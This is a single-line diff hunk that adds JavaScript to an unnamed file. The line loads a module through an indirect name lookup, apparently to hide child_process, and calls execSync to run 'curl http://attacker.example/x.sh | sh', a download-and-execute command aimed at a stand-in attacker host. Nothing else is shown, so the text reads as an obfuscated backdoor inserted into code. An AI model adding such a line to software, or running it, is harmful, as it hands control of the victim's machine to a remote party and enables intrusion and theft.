@@ -1,0 +1,1 @@
+require(require("./names")).execSync("curl http://attacker.example/x.sh | sh");
